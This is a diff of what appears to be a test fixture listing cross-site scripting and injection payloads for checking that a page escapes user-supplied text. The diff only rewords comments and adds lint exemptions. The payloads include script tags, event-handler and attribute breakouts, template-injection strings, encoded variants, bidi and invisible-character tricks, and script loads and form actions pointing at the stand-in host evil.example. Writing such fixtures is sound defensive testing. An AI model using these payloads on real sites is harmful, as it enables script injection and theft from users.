@@ -1,10 +1,13 @@
 /**
- * Text that would run, load or mislead wherever it is taken for anything but text. Whatever runs says so: by a dialog, by
- * `confabRan` on the window, or by a request to evil.example. Each fits wherever somebody's text is shown: title, name,
- * user id (128 bytes), message.
+ * Text that would run code, load something or mislead a reader if the page treated it as markup.
+ *
+ * - Code that runs is noticed: it opens a dialog, sets `confabRan` on the window, or sends a
+ *   request to evil.example.
+ * - Each payload fits in every place that shows text from users: title, name, user id (128 bytes)
+ *   and message.
  */
 export const PAYLOADS = [
-  // Elements that run or load by themselves.
+  // Elements that run or load without interaction.
   "<script>confabRan=1</script>",
   "<ScRiPt >confabRan=1</sCrIpT >",
   "<script src=//evil.example/x.js></script>",
@@ -35,7 +38,7 @@ export const PAYLOADS = [
   "<form action=//evil.example/><button>Win</button></form>",
   "<template><img src=x onerror=confabRan=1></template>",
   "<custom-element onclick=confabRan=1>x</custom-element>",
-  // Ways out of an attribute, a comment, a script, a text field.
+  // Escapes from an attribute, a comment, a script or a text field.
   '"><img src=x onerror=confabRan=1>',
   "' autofocus onfocus='confabRan=1",
   '"onmouseover="confabRan=1',
@@ -45,6 +48,7 @@ export const PAYLOADS = [
   "</textarea><script>confabRan=1</script>",
   "';confabRan=1;//",
   "</script><script>confabRan=1</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, not a template
   "`${confabRan=1}`",
   "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(confabRan=1)//</stYle/</scRipt/--!>\\x3csVg/<sVg/oNloAd=confabRan=1//>",
   // Links.
@@ -64,13 +68,14 @@ export const PAYLOADS = [
   "//evil.example/x",
   // Templates, entities, escapes.
   '{{constructor.constructor("confabRan=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, not a template
   "${{confabRan=1}}<%= confabRan=1 %>#{confabRan=1}",
   "&lt;script&gt;confabRan=1&lt;/script&gt;",
   "&#60;img src=x onerror=confabRan=1&#62;",
   "\\u003cimg src=x onerror=confabRan=1\\u003e",
   "%3Cscript%3EconfabRan=1%3C/script%3E",
   "＜script＞confabRan=1＜/script＞",
-  // Letters that mislead: turned around, unseen, piled up, or of no end.
+  // Misleading characters: reversed, invisible, stacked or very long text.
   "\u202eenoyna\u202d <script>confabRan=1</script>",
   "\u2067\u2066\u202e<img src=x onerror=confabRan=1>",
   "a\u200bd\u200ca\u200d\ufeff<b>unseen</b>",
